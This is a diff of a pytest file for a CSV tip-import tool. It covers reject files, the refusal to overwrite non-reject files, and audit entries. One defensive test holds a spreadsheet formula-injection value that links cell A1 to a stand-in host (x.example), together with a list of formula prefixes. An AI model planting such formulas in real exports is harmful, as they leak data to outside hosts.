@@ -76,6 +76,14 @@ def run_import(session, world, data: bytes, file_name: str = "tip.csv", **kwargs
     return result
 
 
+def reject_file(session, world, data: bytes) -> str:
+    """A tip's reject file, imported with its bad rows skipped (or refused, when no row is good)."""
+    try:
+        return run_import(session, world, data, skip_invalid=True).reject_csv
+    except TipRejected as refused:
+        return refused.reject_csv
+
+
 def count(session, model) -> int:
     return session.scalar(select(func.count()).select_from(model)) or 0
 
@@ -181,16 +189,16 @@ def test_rows_whose_values_do_not_line_up_with_the_header_keep_them_out_of_its_c
     assert "discord | acc1 | 1 | 500" in result.errors[0].reason and "discord | acc3 | 2 | 5 | 7" in result.errors[1].reason
     rows = list(csv.reader(io.StringIO(result.reject_csv)))
     assert [row[:3] for row in rows[1:]] == [["", "", ""], ["", "", ""]]
-    again = run_import(session, world, result.reject_csv.encode(), file_name="rejects.csv", skip_invalid=True)
-    assert again.new_accounts == 0 and [e.field for e in again.errors] == ["platform", "account_id"] * 2
+    with pytest.raises(TipRejected) as again:
+        run_import(session, world, result.reject_csv.encode(), file_name="rejects.csv", skip_invalid=True)
+    assert [e.field for e in again.value.errors] == ["platform", "account_id"] * 2
     assert session.scalar(select(TipAccount.uploads_a).where(TipAccount.account_key == "acc2")) == 1
 
 
 def test_a_header_name_behind_a_tab_comes_back_from_the_reject_file(session, world):
-    data = b"\tplatform,account_id,email\ndiscord,acc1,broken\n"
-    result = run_import(session, world, data, skip_invalid=True)
-    assert result.reject_csv.splitlines()[0] == "platform,account_id,email,line,field,reason"
-    fixed = result.reject_csv.replace(",broken,", ",p1@example.org,")
+    rejects = reject_file(session, world, b"\tplatform,account_id,email\ndiscord,acc1,broken\n")
+    assert rejects.splitlines()[0] == "platform,account_id,email,line,field,reason"
+    fixed = rejects.replace(",broken,", ",p1@example.org,")
     assert run_import(session, world, fixed.encode(), file_name="rejects.csv").new_accounts == 1
 
 
@@ -255,15 +263,15 @@ def test_a_json_escape_of_a_control_character_is_a_bad_value_and_the_other_rows_
 def test_the_reject_file_keeps_formulas_from_running_and_gives_them_back(session, world):
     data = tip(account(1, username="=HYPERLINK(\"http://x.example/?\"&A1)", email="broken"),
                account(2, username="@SUM(1)", uploads_a="-2", phone="+64 21 555 0101"))
-    result = run_import(session, world, data, skip_invalid=True)
-    rows = list(csv.DictReader(io.StringIO(result.reject_csv)))
+    rejects = reject_file(session, world, data)
+    rows = list(csv.DictReader(io.StringIO(rejects)))
     assert [r["username"] for r in rows] == ["'=HYPERLINK(\"http://x.example/?\"&A1)", "'@SUM(1)"]
     assert rows[1]["uploads_a"] == "'-2" and rows[1]["phone"] == "'+64 21 555 0101"
     assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
     # Imported again as it is, the file gives the values back as they were, and the same problems.
-    again = reader.read(io.BytesIO(result.reject_csv.encode()), "csv", b"k")
+    again = reader.read(io.BytesIO(rejects.encode()), "csv", b"k")
     assert [(e.line, e.field) for e in again.errors] == [(2, "email"), (3, "uploads_a")]
-    corrected = result.reject_csv.replace("broken", "fixed@example.org").replace("'-2", "2").encode()
+    corrected = rejects.replace("broken", "fixed@example.org").replace("'-2", "2").encode()
     fixed = reader.read(io.BytesIO(corrected), "csv", b"k")
     assert not fixed.errors
     assert [a.username for a in fixed.accounts] == ['=hyperlink("http://x.example/?"&a1)', "sum(1)"]  # a handle's @ goes
@@ -272,10 +280,10 @@ def test_the_reject_file_keeps_formulas_from_running_and_gives_them_back(session
 
 def test_a_reject_file_corrected_in_rounds_keeps_its_columns(session, world):
     first = run_import(session, world, tip(account(1, email="broken"), account(2)), skip_invalid=True)
-    second = run_import(session, world, first.reject_csv.encode(), skip_invalid=True)
-    header = next(csv.reader(io.StringIO(second.reject_csv)))
+    second = reject_file(session, world, first.reject_csv.encode())
+    header = next(csv.reader(io.StringIO(second)))
     assert header == [*reader.FIELDS, "line", "field", "reason"]  # this round's reasons, not stale ones
-    assert next(csv.DictReader(io.StringIO(second.reject_csv)))["line"] == "2"
+    assert next(csv.DictReader(io.StringIO(second)))["line"] == "2"
 
 
 @pytest.mark.parametrize("ends", ["\n", "\r\n"])
@@ -2158,15 +2166,51 @@ def test_import_tip_command_reports_rows_and_writes_the_reject_file(app, web_wor
 
         entries = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "tip.import")
                                      .order_by(AuditEntry.seq)).all()
-        # The refusal (bad rows: nothing written, yet the attempt is on record), then the import.
+        # The refusal (bad rows: nothing written, yet the attempt is on record), the import, then
+        # the refusal of another agency's officer.
         assert [(e.outcome, e.user_id) for e in entries] == [("failure", None),
-                                                             ("success", web_world.users["c_liaison"].id)]
+                                                             ("success", web_world.users["c_liaison"].id),
+                                                             ("failure", web_world.users["b_liaison"].id)]
         assert json.loads(entries[0].detail) | {"reason": "-"} == {
             "operation": "LANTERN", "file": "tip.csv", "rows": 3, "problems": 1, "reason": "-"}
     extra = tmp_path / "extra.csv"
     extra.write_bytes(b"platform,account_id,E-mail\ninstagram,77,x@example.org\n")
     warned = runner.invoke(args=["import-tip", str(extra), "--operation", "LANTERN"])
     assert warned.exit_code == 0 and "Columns not read, as they are no tip field: E-mail." in warned.output
+
+
+def test_the_reject_file_writes_over_nothing_but_an_earlier_reject_file(app, web_world, tmp_path):
+    runner = app.test_cli_runner()
+    path = tmp_path / "tip.csv"
+    path.write_bytes(tip(account(1, email="cli@example.org"), account(2, email="broken")))
+    database = tmp_path / "handoff.db"
+    database.write_bytes(b"SQLite format 3\x00" + b"\x00" * 100)
+    refused = runner.invoke(args=["import-tip", str(path), "--operation", "LANTERN", "--skip-invalid",
+                                  "--reject-file", str(database)])
+    assert refused.exit_code != 0 and "is neither empty nor a reject file" in refused.output
+    assert database.read_bytes() == b"SQLite format 3\x00" + b"\x00" * 100
+    rejects = tmp_path / "rejects.csv"
+    rejects.touch()  # mktemp's, say
+    done = runner.invoke(args=["import-tip", str(path), "--operation", "LANTERN", "--skip-invalid",
+                               "--reject-file", str(rejects)])
+    assert done.exit_code == 0, done.output
+    assert [r["line"] for r in csv.DictReader(rejects.open(encoding="utf-8"))] == ["3"]
+    # The next import has no bad row: the reject file says so, not the last one's rows.
+    path.write_bytes(tip(account(3, email="three@example.org")))
+    clean = runner.invoke(args=["import-tip", str(path), "--operation", "LANTERN", "--reject-file", str(rejects)])
+    assert clean.exit_code == 0, clean.output
+    assert list(csv.DictReader(rejects.open(encoding="utf-8"))) == []
+
+
+def test_skipping_bad_rows_when_every_row_is_bad_imports_nothing(app, web_world, tmp_path):
+    path = tmp_path / "tip.csv"
+    path.write_bytes(tip(account(1, email="broken"), account(2, uploads_a="-1")))
+    result = app.test_cli_runner().invoke(args=["import-tip", str(path), "--operation", "LANTERN", "--skip-invalid"])
+    assert result.exit_code != 0 and "Nothing was imported: all 2 rows are invalid" in result.output
+    with app.app_context():
+        from app.extensions import db
+
+        assert db.session.scalar(select(func.count()).select_from(Tip)) == 0
 
 
 def test_an_import_broken_off_on_the_command_line_is_on_the_audit_trail(app, web_world, tmp_path, monkeypatch):
